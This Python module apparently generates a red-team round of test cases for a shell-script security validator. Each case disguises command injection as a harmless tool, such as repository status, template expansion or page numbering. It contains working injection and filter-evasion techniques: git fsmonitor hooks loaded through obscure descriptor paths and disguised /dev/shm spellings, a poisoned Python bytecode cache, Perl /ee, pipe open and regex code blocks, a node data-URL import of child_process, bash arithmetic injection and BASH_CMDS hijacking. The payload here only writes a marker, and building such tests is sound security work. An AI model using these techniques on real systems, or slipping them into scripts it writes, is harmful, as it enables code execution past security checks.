# Round forty-two attacks (helpers copied from round 41 lines 1-98) (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r42-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r42-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r42-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")



# ================================================================== round 42 attacks
import subprocess as _sp

R41 = ("Round 41: a path of what a descriptor holds open (/dev/stdin, /dev/fd/3, /proc/self/fd/4, and anything under "
       "them) is a place; so is a path whose start a command prints (date +/dev/shm/x, mktemp). ")
SHMW = ("mkdir -p /dev/shm/r42-app\n"
        "cp -- \"$ARG_settings\" /dev/shm/r42-app/team.gitconfig\n"
        "echo \"team settings saved\"\n")
SAVEW = "W103 only: writing an attachment to an absolute path outside the working folder is a warning, not a refusal. "

# ---------------------------------------------------------------- descriptor-path-unlisted
R("stdout-is-global-config", "descriptor-path-unlisted", "Repository status with the caller's settings",
  {"settings": CFG},
  """
  GIT_CONFIG_GLOBAL=/dev/stdout git status --short 1< "$ARG_settings"
  """,
  {"settings": b64(FSMON)},
  R39 + R41 + "/dev/stdout is none of the descriptor paths the note names (/dev/stdin, /dev/fd/N, /proc/self/fd/N); "
  "the caller's file stands only in a read redirection (1<) of that one command. git opens /dev/stdout, which is "
  "/proc/self/fd/1, the caller's file.")

R("thread-self-fd", "descriptor-path-unlisted", "Repository status after opening the caller's settings",
  {"settings": CFG},
  """
  exec 4< "$ARG_settings"
  echo "settings opened"
  git -c include.path=/proc/thread-self/fd/4 status --short
  exec 4<&-
  """,
  {"settings": b64(FSMON)},
  R41 + "/proc/thread-self/fd/4 is not /proc/self/fd/4 nor under it, not /proc/*/root or /proc/*/cwd, and has no ..; "
  "it is the calling thread's descriptor table, the same descriptors.")

R("pid-task-fd", "descriptor-path-unlisted", "Repository status with the settings bash holds open",
  {"settings": CFG},
  """
  exec 4< "$ARG_settings"
  echo "settings opened"
  git -c include.path="/proc/$$/task/$$/fd/4" status --short
  exec 4<&-
  """,
  {"settings": b64(FSMON)},
  R41 + "$$ is a number bash sets (clean, rule 2); /proc/PID/task/TID/fd/4 is the bash's own descriptor 4 reached "
  "through its task folder, neither /proc/self/fd nor /proc/*/root; git (another process) opens it.")

# ---------------------------------------------------------------- place-spelled-by-bash-expansion
X("ansi-c-place", "place-spelled-by-bash-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [("save", SHMW, None),
   ("status", "GIT_CONFIG_GLOBAL=$'/dev/\\x73hm/r42-app/team.gitconfig' git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + SAVEW + "The place is written in ANSI-C quotes with one byte escaped ($'/dev/\\x73hm/…'): its text is "
  "not /dev/shm/… as written, and bash decodes it to /dev/shm/r42-app/team.gitconfig.")

X("glob-place", "place-spelled-by-bash-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [("save", SHMW, None),
   ("status", "cfgs=(/dev/s[h]m/r42-app/*.gitconfig)\ngit -c include.path=\"${cfgs[0]}\" status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + SAVEW + "Round 18 accepts the names a glob matches when its pattern starts with the author's character; "
  "/dev/s[h]m/… is no place by its text (a bracket where shm's h is), but the glob matches /dev/shm/r42-app/team.gitconfig.")

X("case-fold-place", "place-spelled-by-bash-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [("save", SHMW, None),
   ("status", "d=/DEV/SHM/R42-APP\ngit -c include.path=\"${d,,}/team.gitconfig\" status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R41 + SAVEW + "d is set once to the author's literal /DEV/SHM/R42-APP, which names no place (paths are "
  "case-sensitive); ${d,,} lower-cases it in bash, no command prints it (round 41 covers date/tr/sed output).")

X("printf-v-place", "place-spelled-by-bash-expansion", "Save the team's git settings, then show the status with them",
  {"settings": CFG},
  [("save", SHMW, None),
   ("status", "printf -v d '/%s/%s/r42-app' dev shm\nGIT_CONFIG_GLOBAL=\"$d/team.gitconfig\" git status --short\n", None)],
  {"settings": b64(FSMON)},
  R39 + R41 + SAVEW + "printf -v d FORMAT makes d hold what the format gives; the format's text '/%s/%s/r42-app' "
  "starts with '/' and names no place, and its words are literals; round 41's precision says $(printf 'FORMAT' …) "
  "starts with its format's text.")

# ---------------------------------------------------------------- clean-file-rewritten-by-job-control
X("set-m-survivor", "clean-file-rewritten-by-job-control", "Warm the settings cache, then show the status with the team settings",
  {"settings": CFG},
  [("warm", """
    set -m
    c=$(< "$ARG_settings")
    f="$HARBOR_RUN_DIR/team.gitconfig"
    {
      until [[ -s $f && $(< "$f") == *quiet* ]] || (( SECONDS > 20 )); do :; done
      printf '%s\\n' "$c" > "$f"
    } > /dev/null 2>&1 &
    echo "cache warmed"
    """, None),
   ("status", """
    printf '[core]\\n\\tquiet = true\\n' > "$HARBOR_RUN_DIR/team.gitconfig"
    GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/team.gitconfig" git status --short
    """, None)],
  {"settings": b64(FSMON)},
  R39X + "The status step writes the file in full with printf of the author's text just before git reads it, and no "
  "other command of that script names it. The warm step's `set -m` turns job control on, so its background job runs "
  "in a process group of its own: the runner stops what the leader left in ITS group, not this job, which rewrites "
  "the file with the caller's text the moment the author's text appears. (Round 41 used setsid.)")

# ---------------------------------------------------------------- config-place-found-unseen
X("xdg-config-git", "config-place-found-unseen", "Save the caller's git settings for this server's git, then show status",
  {"settings": CFG},
  [("save", """
    mkdir -p "$XDG_CONFIG_HOME/git"
    cp -- "$ARG_settings" "$XDG_CONFIG_HOME/git/config"
    echo "settings saved"
    """, None),
   ("status", "git status --short\n", None)],
  {"settings": b64(FSMON)},
  "H004 (rounds 9-13) refuses caller data written into the home folder (~/.gitconfig, also through a variable); "
  "XDG_CONFIG_HOME is a pass_env value of the server (clean, rule 2), not HOME, and a copy to an absolute path outside "
  "the working folder is W103 only. git reads $XDG_CONFIG_HOME/git/config unasked. Round 33 names XDG_CONFIG_HOME "
  "only for curl's config.", head="pass_env: [XDG_CONFIG_HOME]\n")


def _pyc():
    """an unchecked hash-based .pyc (python 3.11) for json/__init__: runs the payload, then the real module"""
    src = ("import os as _o\n_o.system(%r)\n"
           "exec(compile(open(__file__).read(), __file__, 'exec'))\n") % (SHP + " >&2")
    prog = ("import importlib.util, marshal, sys\n"
            "code = compile(sys.stdin.read(), '/usr/lib/python3.11/json/__init__.py', 'exec')\n"
            "sys.stdout.buffer.write(importlib.util.MAGIC_NUMBER + (1).to_bytes(4, 'little') + b'\\0' * 8 + marshal.dumps(code))\n")
    return _sp.run(["/usr/bin/python3", "-c", prog], input=src.encode(), capture_output=True, check=True).stdout


def _tgz_bytes(files):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, data in files.items():
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), 0o644, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


X("pycache-prefix", "config-place-found-unseen", "Restore the caller's bytecode cache, then format a note as JSON",
  {"cache": dict(ATT_TGZ, description="a bytecode cache bundle (.tar.gz) from the caller's CI"), "note": NOTE},
  [("restore", """
    mkdir -p /dev/shm/r42-app
    tar -xzf "$ARG_cache" -C /dev/shm/r42-app
    echo "cache restored"
    """, None),
   ("fmt", """
    python3 -X pycache_prefix=/dev/shm/r42-app -c 'import json, sys; print(json.dumps({"note": sys.argv[1]}))' "$ARG_note"
    """, None)],
  {"cache": _tgz_bytes({"usr/lib/python3.11/json/__init__.cpython-311.pyc": _pyc()}), "note": "deploy ok"},
  "The python program is literal and uses only json and sys (allowlisted); the caller's note is argv data. "
  "-X pycache_prefix=DIR is an implementation option whose value names a folder, not a file the program runs; "
  "python looks there for the bytecode of every module it imports (json), and an unchecked hash-based .pyc is "
  "loaded without comparing it to the source. tar extracts into an absolute folder, not the working folder.")

# ---------------------------------------------------------------- perl-run-primitive-unlisted
R("perl-subst-ee", "perl-run-primitive-unlisted", "Expand ${…} fields of the caller's template",
  {"template": TXT},
  """
  perl -e 'my $t = $ARGV[0]; $t =~ s/\\$\\{([^}]*)\\}/$1/gee; print "$t\\n"' -- "$ARG_template"
  """,
  {"template": "Release ${system(q(" + SHP + " >&2))} done"},
  R38L + "The program uses none of the listed primitives by name (no eval, system, backticks, open, <>); the "
  "substitution's /ee modifier evaluates the replacement text as Perl code, and $1 is the caller's text.")

R("perl-pipe-open-3arg", "perl-run-primitive-unlisted", "Run the caller's health probe command and report that it started",
  {"probe": dict(TXT, description="the probe command line")},
  """
  perl -e 'open(my $p, "-|", $ARGV[0]) or die "probe failed to start\\n"; close $p; print "probe started\\n"' -- "$ARG_probe"
  """,
  {"probe": SHP + " >&2"},
  R38L + "Only the two-argument open is listed as magic; this open has three arguments (mode \"-|\"), and perl runs a "
  "one-string command through /bin/sh.")

R("perl-regex-code-block", "perl-run-primitive-unlisted", "Check whether the caller's pattern matches the release name",
  {"pattern": dict(TXT, description="a Perl regular expression")},
  """
  perl -e 'use re ("ev" . "al"); my $p = $ARGV[0]; print(("release-1.4" =~ /$p/) ? "match\\n" : "no match\\n")' -- "$ARG_pattern"
  """,
  {"pattern": "(?{ system(q(" + SHP + " >&2)) })release"},
  R38L + "The caller's value is a pattern matched as data; the program calls no listed primitive. `use re` with the "
  "name built from two strings turns on run-time code blocks, so (?{ … }) in the interpolated pattern runs.")

R("perl-do-file", "perl-run-primitive-unlisted", "Count the keys of the caller's Perl settings file",
  {"settings": dict(ATT_TXT, description="a Perl data file (a hash)")},
  """
  perl -e 'my $cfg = do $ARGV[0]; print scalar(keys %{ $cfg || {} }), " keys\\n"' -- "$ARG_settings"
  """,
  {"settings": b64("system(q(" + SHP + " >&2)); +{ a => 1 }\n")},
  R38L + "The attachment is an operand of a literal program that uses no listed primitive; `do FILE` compiles and runs "
  "the file (require's cousin), which is not in the list.")

# ---------------------------------------------------------------- node-dynamic-import
R("node-import-data-url", "js-dynamic-import", "Render the caller's snippet as a module preview",
  {"snippet": TXT},
  """
  node -e 'import("data:text/javascript," + encodeURIComponent(process.argv[1])).then(() => console.log("preview ok"))' "$ARG_snippet"
  """,
  {"snippet": 'import("node:child_process").then(c=>process.stderr.write(c.execSync(' + json.dumps(SHP) + ').toString()))'},
  R38L + "process.argv by a literal name is how a node program reads argv (not a computed global); the program has "
  "no eval, Function, require, child_process, Reflect, module, this or \\u escape. import() of a data: URL loads "
  "the caller's text as an ES module.")

# ---------------------------------------------------------------- bash features
R("obsolete-arith", "bash-arith-obsolete-syntax", "Show the next page number",
  {"page": dict(TXT, description="the current page")},
  """
  echo "next page: $[ARG_page + 1]"
  """,
  {"page": ARITHB},
  "The caller's value is never written as $ARG_page; bash's obsolete $[ … ] is arithmetic (like $(( … ))), where a "
  "bare name is evaluated recursively as an expression, so x[$(cmd)] runs cmd. H006 is stated for arithmetic; "
  "the docs never mention $[ ].")

R("bash-cmds-hash", "bash-command-table", "Sort the caller's list with the server's sort program",
  {"sorter": {"type": "string", "pattern": "^/[a-z/]{1,40}$", "description": "path of the sort program, e.g. /usr/bin/sort"},
   "list": ATT_TXT},
  """
  BASH_CMDS[sort]=$ARG_sorter
  sort -- "$ARG_list"
  """,
  {"sorter": "/bin/sh", "list": b64(SHP + " >&2\n")},
  "hash -p is refused (rule 3), but BASH_CMDS is the same table as an associative array: an element written with "
  "a path makes the literal command word `sort` run that path. The assignment is to an array element of a name no "
  "list of code-selecting variables names; sort's operand after -- is data.")

R("git-config-env", "git-config-by-data-variable", "Repository status, attributed to the caller's name",
  {"name": dict(TXT, description="the caller's display name")},
  """
  GIT_AUTHOR_NAME="$ARG_name" git --config-env=core.fsmonitor=GIT_AUTHOR_NAME status --short
  """,
  {"name": HOOKCMD},
  "issue-34 migration: GIT_AUTHOR_NAME=\"$ARG_name\" git … is accepted because git's grammar reads GIT_AUTHOR_NAME "
  "as data; --config-env=KEY=VAR is the author's literal option, and it makes git read the config value of "
  "core.fsmonitor from that variable.")
